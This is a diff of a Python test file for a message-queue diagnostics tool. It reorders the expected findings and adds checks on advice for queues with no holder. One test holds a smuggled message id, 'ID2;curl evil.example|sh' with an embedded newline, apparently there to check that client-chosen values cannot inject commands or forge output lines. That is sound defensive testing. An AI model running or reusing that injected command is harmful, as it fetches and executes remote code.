@@ -82,19 +82,19 @@ def test_each_finding_is_a_line_with_what_to_do() -> None:
     said = lines(found)
 
     assert [line.split(":")[0] for line in said] == [
+        "Members disagree",
+        "Two clients with one id",
         "Blocked",
         "Failing",
         "Expiring",
-        "Members disagree",
-        "Two clients with one id",
     ]
-    assert "message ID1, key order-7, held by alice" in said[0]
-    assert "2023-11-14T22:13:20+00:00" in said[0]
-    assert "failed 4 times, a dead letter" in said[1]
-    assert "`orderlymq message show ID2 --topic orders`" in said[1]
-    assert "ends in 9 s" in said[2]
-    assert "a and b differ in topic orders: * and x" in said[3]
-    assert "a:1 and b:2" in said[4]
+    assert "a and b differ in topic orders: * and x" in said[0]
+    assert "a:1 and b:2" in said[1]
+    assert "message ID1, key order-7, held by alice" in said[2]
+    assert "2023-11-14T22:13:20+00:00" in said[2]
+    assert "failed 4 times, a dead letter" in said[3]
+    assert "`orderlymq message show ID2 --topic orders`" in said[3]
+    assert "ends in 9 s" in said[4]
 
 
 def test_a_blocked_queue_shows_what_its_listener_said() -> None:
@@ -115,9 +115,13 @@ def test_a_blocked_queue_shows_what_its_listener_said() -> None:
 
 
 def test_a_queue_that_nobody_has_locked_is_held_by_nobody() -> None:
+    """Law: for a queue without a holder, the first advice is about the members, not about the message."""
     (said,) = lines(findings([status(blocked=[{**BLOCKED, "holder": None}])], "billing"))
 
     assert "held by nobody" in said
+    members, _, message = said.partition("all must subscribe to the same topics")
+    assert "skip" not in members
+    assert "skip the message" in message
 
 
 def test_a_holder_that_is_away_has_no_log_to_read() -> None:
@@ -157,7 +161,7 @@ def test_what_clients_choose_begins_no_line_and_no_command() -> None:
     assert [len(line.splitlines()) for line in said] == [1, 1]
     assert (
         r"`orderlymq message show 'ID2;curl evil.example|sh\x0aBlocked: none' --topic orders`"
-        in said[0]
+        in said[1]
     )
 
 
